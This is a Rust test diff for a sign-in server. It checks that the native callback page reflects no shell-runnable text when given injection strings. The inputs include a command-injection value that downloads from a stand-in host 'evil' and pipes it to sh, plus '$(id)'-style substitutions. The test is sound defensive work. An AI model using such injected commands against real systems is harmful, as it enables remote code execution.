@@ -83,3 +83,20 @@ async fn the_printed_sign_in_address_leads_to_a_token() {
     assert_eq!(tokens["expires_in"], 3600);
     server.stop();
 }
+
+#[tokio::test]
+async fn a_callback_shows_nothing_that_a_shell_would_run() {
+    let folder = tempfile::tempdir().unwrap();
+    let (server, ready) = Server::ready(&folder.path().join("school.db"));
+    let origin = ready["base_url"].as_str().unwrap();
+    let client = Client::new();
+    for code in ["x;curl${IFS}evil|sh", "$(id)", "%60id%60", "<b>"] {
+        let url =
+            format!("{origin}/demo/native?code={}", code.replace('<', "%3C").replace('>', "%3E").replace('|', "%7C").replace('{', "%7B"));
+        let page = client.get(&url.replace('}', "%7D"), &[]).await.body;
+        assert!(page.contains("Nothing to see") && !page.contains("curl"), "{page}");
+    }
+    let native = client.get(&format!("{origin}/demo/native?code=abc"), &[]).await.body;
+    assert!(native.contains(ready["public_client"]["id"].as_str().unwrap()) && native.contains("code_verifier"), "{native}");
+    server.stop();
+}
